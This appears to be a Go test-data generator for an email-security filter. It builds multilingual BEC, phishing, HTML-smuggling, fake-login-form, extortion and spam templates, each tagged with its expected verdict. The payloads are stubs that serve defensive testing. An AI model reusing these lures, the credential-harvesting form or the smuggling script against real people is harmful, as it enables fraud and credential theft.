package mailgen

import (
	"strings"

	"clawback/verdict"
)

// attacks are what must be caught, by kind. MALICIOUS is wanted where there is a payload and a second witness; SPOOF
// where somebody is forged and there is no payload; SUSPICIOUS where a payload stands alone; SPAM where nobody is
// harmed but the reader's patience.
func attacks() []Template {
	var all []Template
	for _, part := range [][]Template{forgedPeople(), credentials(), files(), threats(), nuisance()} {
		for _, t := range part {
			t.Attack = true
			all = append(all, t)
		}
	}
	return all
}

// forgedPeople has mail in the name of people and partners, without links or files.
func forgedPeople() []Template {
	const vip = "\"Petra Lindqvist\" <office.{token}@gmail.com>"
	return []Template{
		{Name: "bec-availability", Language: "en", Want: verdict.Malicious, Auth: Pass, From: vip,
			Subject: "Quick request",
			Text: "Hi {first},\n\nAre you available? I am in a meeting right now and can't talk. I have a quick task " +
				"that you can handle discreetly. Send me your cell phone number.\n\nPetra Lindqvist"},
		{Name: "bec-verfuegbarkeit", Language: "de", Want: verdict.Malicious, Auth: Pass, From: vip,
			Subject: "Kurze Frage",
			Text: "Hallo {first},\n\nsind Sie am Platz? Ich bin in einer Besprechung und brauche Ihre Hilfe bei " +
				"einer kurzen Aufgabe. Bitte vertraulich behandeln und mir Ihre Handynummer schicken.\n\nPetra " +
				"Lindqvist"},
		{Name: "bec-disponibilite", Language: "fr", Want: verdict.Malicious, Auth: Pass, From: vip,
			Subject: "Dossier confidentiel",
			Text: "Bonjour {first},\n\nÊtes-vous au bureau ? Je suis en réunion et je compte sur votre discrétion " +
				"pour un dossier confidentiel. Merci de m'envoyer votre numéro de portable.\n\nPetra Lindqvist"},
		{Name: "bec-beschikbaar", Language: "nl", Want: verdict.Malicious, Auth: Pass, From: vip,
			Subject: "Snelle taak",
			Text: "Hallo {first},\n\nBen je op kantoor? Ik zit in een vergadering en heb een snelle taak voor je. " +
				"Stuur me je mobiele nummer, het is vertrouwelijk.\n\nPetra"},
		{Name: "bec-disponibilidad", Language: "es", Want: verdict.Malicious, Auth: Pass, From: vip,
			Subject: "Necesito un favor",
			Text: "Hola {first}:\n\n¿Estás disponible? Estoy en una reunión y necesito un favor. Es confidencial, " +
				"envíame tu número de móvil.\n\nPetra"},
		{Name: "bec-disponibilidade", Language: "pt", Want: verdict.Malicious, Auth: Pass, From: vip,
			Subject: "Preciso de um favor",
			Text: "Olá {first},\n\nVocê está disponível? Estou em reunião e preciso de um favor confidencial. Envie " +
				"seu número de celular.\n\nPetra"},
		{Name: "bec-gift-cards", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Marcus Abernathy <m.abernathy.{number}@outlook.com>", Subject: "Client gifts",
			Text: "{first}, I need you to buy five gift cards for clients, $200 each. Scratch the back and send me " +
				"the codes. Keep this confidential, I will reimburse you today.\n\nMarcus"},
		{Name: "bec-payroll-change", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Marcus Abernathy <marcus.a{number}@yahoo.com>", Subject: "Direct deposit",
			Text: "Hello,\n\nI changed banks and want to update my direct deposit before the next payroll. Which " +
				"details do you need for my new bank account?\n\nMarcus Abernathy"},
		{Name: "bec-gehaltskonto", Language: "de", Want: verdict.Malicious, Auth: Pass,
			From: "Marcus Abernathy <marcus.a{number}@gmx.de>", Subject: "Gehaltskonto",
			Text: "Guten Tag,\n\nich habe eine neue Bankverbindung für mein Gehaltskonto. Können Sie die neue IBAN " +
				"vor der nächsten Gehaltszahlung eintragen?\n\nMarcus Abernathy"},
		{Name: "vip-other-reply-to", Language: "en", Want: verdict.Malicious, Auth: Fail,
			From: "Petra Lindqvist <petra.lindqvist@contoso.example>", ReplyTo: "petra.private{number}@gmail.com",
			Subject: "Urgent payment",
			Text: "Please process a payment today. It is an urgent payment to a vendor, I will send the wire " +
				"instructions once you confirm. Keep this confidential.\n\nPetra"},
		{Name: "partner-lookalike-invoice", Language: "en", Want: verdict.Suspicious, Auth: Pass,
			From: "{person} <{local}@fabrlkam.example>", Subject: "Re: Invoice {number}",
			Text: "Dear {first},\n\nplease note that our bank account has changed. Use the new bank details below " +
				"for the overdue invoice of EUR {amount}.\n\nKind regards\n{person}\nFabrikam"},
		{Name: "partner-rechnung", Language: "de", Want: verdict.Suspicious, Auth: Pass,
			From: "{person} <{local}@fabrikarn.example>", Subject: "AW: Rechnung {number}",
			Text: "Guten Tag,\n\nunsere Bankverbindung hat sich geändert. Bitte überweisen Sie die offene Rechnung " +
				"über {amount} EUR auf die neue IBAN.\n\n{person}"},
		{Name: "partner-facture", Language: "fr", Want: verdict.Suspicious, Auth: Pass,
			From: "{person} <{local}@fabrikam-facturation.example>", Subject: "Facture {number}",
			Text: "Bonjour,\n\nVeuillez noter notre nouveau RIB pour la facture impayée de {amount} EUR. Le " +
				"changement de coordonnées bancaires est immédiat.\n\n{person}"},
	}
}

// credentials has mail that leads to a page that asks for a password.
func credentials() []Template {
	return []Template{
		{Name: "own-lookalike-password", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Contoso IT Helpdesk <no-reply@contoso-support.example>", Subject: "Your password expires today",
			Text: "Your password expires today. Keep current password: " +
				"https://login.contoso-support.example/keep?u={user}@contoso.example",
			HTML: `<p>Dear user,</p><p>Your password expires today. To avoid losing access to your mailbox verify your account within 24 hours.</p><p><a href="https://login.contoso-support.example/keep?u={user}@contoso.example">Keep same password</a></p>`},
		{Name: "own-lookalike-kennwort", Language: "de", Want: verdict.Malicious, Auth: Pass,
			From: "IT-Abteilung Contoso <it@contos0.example>", Subject: "Kennwort läuft ab",
			HTML: `<p>Sehr geehrter Nutzer,</p><p>Ihr Kennwort läuft ab. Bestätigen Sie bitte Ihre Daten innerhalb von 24 Stunden, sonst wird Ihr Zugang gesperrt.</p><p><a href="https://contos0.example/anmelden/{token}">Jetzt bestätigen</a></p>`},
		{Name: "microsoft-quota", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Microsoft 365 <support@{site}>", Subject: "Mailbox storage is full",
			HTML: `<p>Dear email user,</p><p>Your mailbox is full. Incoming messages are pending. Verify your account within 24 hours to release messages.</p><p><a href="https://microsoft-365-{token}.workers.dev/login#{user}@contoso.example">Restore mailbox</a></p>`},
		{Name: "paypal-restricted", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "PayPal Service <service@{site}>", Subject: "Your account has been limited",
			HTML: `<p>Dear customer,</p><p>Your account has been limited because of unusual activity. Confirm your information within 24 hours.</p><p><a href="http://paypal-secure-{token}.example/confirm">https://www.paypal.com/confirm</a></p>`},
		{Name: "sparkasse-pushtan", Language: "de", Want: verdict.Malicious, Auth: None,
			From: "Sparkasse <kundenservice@{site}>", Subject: "Ihr Konto wurde eingeschränkt",
			HTML: `<p>Sehr geehrter Kunde,</p><p>Ihr Konto wurde eingeschränkt. Verifizieren Sie Ihr S-pushTAN-Verfahren innerhalb von 24 Stunden.</p><p><a href="https://sparkasse-{token}.web.app/login">Jetzt verifizieren</a></p>`},
		{Name: "ing-betaalpas", Language: "nl", Want: verdict.Malicious, Auth: None, From: "Rabobank <service@{site}>",
			Subject: "Uw rekening wordt geblokkeerd",
			HTML:    `<p>Geachte klant,</p><p>Uw rekening wordt geblokkeerd. Vraag binnen 24 uur een nieuwe betaalpas aan en bevestig uw gegevens.</p><p><a href="https://rabobank-{token}.pages.dev/pas">Bevestig uw gegevens</a></p>`},
		{Name: "correios-taxa", Language: "pt", Want: verdict.Malicious, Auth: None, From: "Correios <aviso@{site}>",
			Subject: "Sua encomenda foi taxada",
			HTML:    `<p>Prezado cliente,</p><p>Sua encomenda está retida. Pague a taxa de importação em até 24 horas.</p><p><a href="https://correios-rastreio-{token}.herokuapp.com/taxa">Pagar a taxa</a></p>`},
		{Name: "colis-en-attente", Language: "fr", Want: verdict.Malicious, Auth: None,
			From: "La Poste <notification@{site}>", Subject: "Votre colis est en attente",
			HTML: `<p>Cher client,</p><p>Votre colis est en attente. Réglez les frais de douane sous 48 heures pour confirmer la livraison.</p><p><a href="https://laposte-suivi-{token}.netlify.app/">Confirmer la livraison</a></p>`},
		{Name: "caixabank-bloqueada", Language: "es", Want: verdict.Malicious, Auth: None,
			From: "CaixaBank <avisos@{site}>", Subject: "Su cuenta ha sido bloqueada",
			HTML: `<p>Estimado cliente:</p><p>Su cuenta ha sido bloqueada por actividad sospechosa. Verifique su identidad en 24 horas.</p><p><a href="https://caixabank-{token}.vercel.app/acceso">Verificar su identidad</a></p>`},
		{Name: "metamask-wallet", Language: "en", Want: verdict.Malicious, Auth: Pass, From: "MetaMask <team@{site}>",
			Subject: "Verify your wallet",
			HTML:    `<p>Dear user, your wallet will be restricted. Verify your wallet with your recovery phrase within 48 hours.</p><p><a href="https://metamask-{token}.pages.dev/kyc">Verify now</a></p>`},
		{Name: "docusign-shared", Language: "en", Want: verdict.Malicious, Auth: Pass, From: "DocuSign <dse@{site}>",
			Subject: "Please review and sign: payroll document",
			HTML:    `<p>A document has been shared with you. Review document and sign, signature required today.</p><p><a href="https://ipfs.io/ipfs/Qm{hex}?u={user}@contoso.example">View document</a></p>`},
		{Name: "qr-only", Language: "en", Want: verdict.Malicious, Auth: Pass, From: "Microsoft Security <mfa@{site}>",
			Subject: "Two factor authentication: action required",
			Text:    "Scan the code to verify your account. Your account will be suspended within 24 hours.",
			Files:   []File{{"mfa.png", "image/png", QR("https://contoso-mfa.example/auth?id=8812")}}},
		{Name: "calendar-invite", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Contoso HR <calendar@contoso-hr.example>", Subject: "Salary review: action required",
			Text: "Verify your account before the meeting or your account will be suspended.",
			Files: []File{{"", "text/calendar; charset=utf-8",
				Calendar("calendar@contoso-hr.example", "Salary review",
					"Confirm your identity: https://contoso-hr.example/review")}}},
		{Name: "punycode-login", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Account Team <team@{site}>", Subject: "Unusual sign in",
			HTML: `<p>Unusual sign in. Your account will be suspended unless you verify your identity.</p><p><a href="https://раypal.example/login">Secure your account</a></p>`},
		{Name: "internal-compromised", Language: "en", Want: verdict.Malicious, Auth: Internal,
			From: "Tom Field <tom.field@contoso.example>", Subject: "Shared document",
			HTML: `<p>I shared a document with you. Verify your account to open document: your mailbox password expires within 24 hours.</p><p><a href="https://contoso-files.example/ipfs/Qm{hex}#{user}@contoso.example">View document</a></p>`},
	}
}

// files has mail whose attachment does the harm.
func files() []Template {
	smuggle := `<html><body><script>var d=atob("` + strings.Repeat("TVqQAAMAAAAEAAAA", 200) +
		`");var b=new Blob([d]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="invoice.iso";a.click();</script></body></html>`
	login := `<html><body><form action="https://collect-{token}.example/p.php"><input type="text" name="u" value="{user}@contoso.example"><input type="password" name="p"></form></body></html>`
	return []Template{
		{Name: "html-smuggling", Language: "en", Want: verdict.Malicious, Auth: None,
			From: "Accounts <accounts@{site}>", Subject: "Overdue invoice {number}",
			Text:  "Kindly find attached the overdue invoice. Open the attachment and process this payment within 24 hours.",
			Files: []File{{"invoice_{number}.html", "text/html", []byte(smuggle)}}},
		{Name: "html-login", Language: "de", Want: verdict.Malicious, Auth: None,
			From: "Microsoft Voicemail <voice@{site}>", Subject: "Neue Sprachnachricht",
			Text:  "Sie haben eine neue Sprachnachricht. Bestätigen Sie Ihre Daten, um sie anzuhören.",
			Files: []File{{"Sprachnachricht.htm", "text/html", []byte(login)}}},
		{Name: "zip-script", Language: "en", Want: verdict.Malicious, Auth: None, From: "DHL Express <parcel@{site}>",
			Subject: "Your parcel could not be delivered",
			Text:    "Your parcel could not be delivered. Confirm your address with the attached form.",
			Files: []File{{"shipping.zip", "application/zip",
				Zip(false, File{Name: "shipping_label.pdf.js", Body: []byte("WScript.Echo('made for tests');")})}}},
		{Name: "encrypted-zip-password", Language: "en", Want: verdict.Suspicious, Auth: None,
			From: "{person} <{local}@{site}>", Subject: "Purchase order {number}",
			Text: "See the attached purchase order. The password is 4471.",
			Files: []File{{"order_{number}.zip", "application/zip",
				Zip(true, File{Name: "order.docx", Body: []byte("made for tests")})}}},
		{Name: "encrypted-zip-passwort", Language: "de", Want: verdict.Suspicious, Auth: None,
			From: "{person} <{local}@{site}>", Subject: "Bestellung {number}",
			Text: "Anbei die Bestellung. Das Passwort lautet 4471.",
			Files: []File{{"bestellung_{number}.zip", "application/zip",
				Zip(true, File{Name: "bestellung.docx", Body: []byte("made for tests")})}}},
		{Name: "remote-template", Language: "en", Want: verdict.Suspicious, Auth: None,
			From: "{person} <{local}@{site}>", Subject: "Signed form", Text: "The signed form is attached.",
			Files: []File{{"form.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
				Docx("attachedTemplate", "https://templates-{token}.example/t.dotm")}}},
		{Name: "disguised-program", Language: "en", Want: verdict.Malicious, Auth: None,
			From: "{person} <{local}@{site}>", Subject: "Photos", Text: "As promised.",
			Files: []File{{"photo.jpg", "image/jpeg",
				append([]byte("MZ\x90\x00\x03\x00\x00\x00"), make([]byte, 512)...)}}},
		{Name: "iso-image", Language: "es", Want: verdict.Malicious, Auth: None, From: "BBVA <avisos@{site}>",
			Subject: "Comprobante de pago", Text: "Estimado cliente: se adjunta el comprobante de pago de la factura " +
				"pendiente.",
			Files: []File{{"comprobante.pdf.iso", "application/octet-stream", make([]byte, 2048)}}},
		{Name: "pdf-free-mail", Language: "pt", Want: verdict.Malicious, Auth: Pass,
			From: "Banco do Brasil <aviso{number}@gmail.com>", Subject: "Dispositivo bloqueado {number}",
			Text:  "Siga as instruções do arquivo em anexo para o desbloqueio.",
			Files: []File{{"aviso.pdf", "application/pdf", PDF("https://liberacao-{token}.example/")}}},
	}
}

// threats has mail without link or file that frightens.
func threats() []Template {
	return []Template{
		{Name: "callback", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Norton Billing <n.billing{number}@gmail.com>", Subject: "Your subscription has been renewed",
			Text: "Dear customer,\n\nThank you for your order. $ {amount} will be debited from your account today. " +
				"If you did not authorize this, call our toll free number {phone} within 24 hours to cancel the " +
				"order.\n\nBilling department"},
		{Name: "callback-geek", Language: "en", Want: verdict.Malicious, Auth: Pass,
			From: "Geek Squad <support@{site}>", Subject: "Order {number} has been processed",
			Text: "Dear customer,\n\nYour auto renewal of {amount} USD has been charged. If you did not make this " +
				"purchase call our support {phone} to cancel this order within 24 hours. Refund department."},
		{Name: "extortion", Language: "en", Want: verdict.Suspicious, Auth: None, From: "anon <{token}@{site}>",
			Subject: "Last warning",
			Text: "I am a hacker. I have access to your devices and recorded a video of you by your webcam on adult " +
				"websites. Transfer bitcoin to my bitcoin address within 48 hours or I send it to all your contacts. " +
				"bc1q{hex}"},
		{Name: "erpressung", Language: "de", Want: verdict.Suspicious, Auth: None, From: "anon <{token}@{site}>",
			Subject: "Letzte Warnung",
			Text: "Ich habe Zugriff auf Ihr Gerät. Ihre Webcam hat Sie auf Pornoseiten aufgenommen. Senden Sie " +
				"Bitcoins an diese Bitcoin-Adresse innerhalb von 48 Stunden, sonst geht das Video an alle Ihren " +
				"Kontakten. bc1q{hex}"},
	}
}

// nuisance has spam.
func nuisance() []Template {
	return []Template{
		{Name: "advance-fee", Language: "en", Want: verdict.Spam, Auth: Pass,
			From: "Barrister {person} <{local}{number}@gmail.com>", ReplyTo: "{local}.chambers@outlook.com",
			To: "undisclosed-recipients:;", Subject: "Dear beneficiary",
			Text: "Dear friend, I am a barrister. My late client left an inheritance of $ 10,500,000.00 and you are " +
				"named as next of kin. Send your full name and direct telephone number for the transfer of funds. " +
				"God bless."},
		{Name: "heranca", Language: "pt", Want: verdict.Spam, Auth: Pass, From: "{person} <{local}{number}@gmail.com>",
			ReplyTo: "{local}.adv@outlook.com", To: "undisclosed-recipients:;", Subject: "Proposta de negócio",
			Text: "Meu caro amigo, o meu falecido cliente deixou uma herança de 8 milhões de dólares e preciso de um " +
				"beneficiário. Aguardo a sua resposta."},
		{Name: "lottery", Language: "en", Want: verdict.Spam, Auth: None, From: "Award Office <award@{site}>",
			ReplyTo: "claims{number}@gmail.com", To: "undisclosed-recipients:;", Subject: "YOU HAVE WON THE LOTTERY",
			Text: "Congratulations! Your email was selected and you have won 2,000,000.00 USD in our lottery. Claim " +
				"your prize, winner!"},
		{Name: "seo-offer", Language: "en", Want: verdict.Spam, Auth: Pass,
			From: "{person} <{local}.seo{number}@gmail.com>", To: "Recipients <{local}.seo{number}@gmail.com>",
			Subject: "Errors on your website",
			Text: "Hello, we found errors on your website. Our SEO services bring you to the first page of Google " +
				"and increase website traffic. Reply for a price list."},
		{Name: "pills", Language: "en", Want: verdict.Spam, Auth: None,
			From: "Health Shop <{token}@deals-{token}.click>", Subject: "Weight loss miracle!!",
			HTML: `<p>Burn fat with this one weird trick! Doctors hate it. Order now, 100% guaranteed, no prescription.</p><p><a href="http://deals-{token}.click/{token}">Click here</a></p>`},
		{Name: "gewinnspiel", Language: "de", Want: verdict.Spam, Auth: None,
			From:    "Gewinnzentrale <{token}@gewinn-{token}.click>",
			Subject: "Herzlichen Glückwunsch!! Sie haben gewonnen",
			HTML:    `<p>Herzlichen Glückwunsch! Sie haben gewonnen und wurden ausgewählt. Nehmen Sie an der kurzen Umfrage teil, Ihre Belohnung wartet.</p><p><a href="http://gewinn-{token}.click/{token}">Prämie sichern</a></p>`},
	}
}
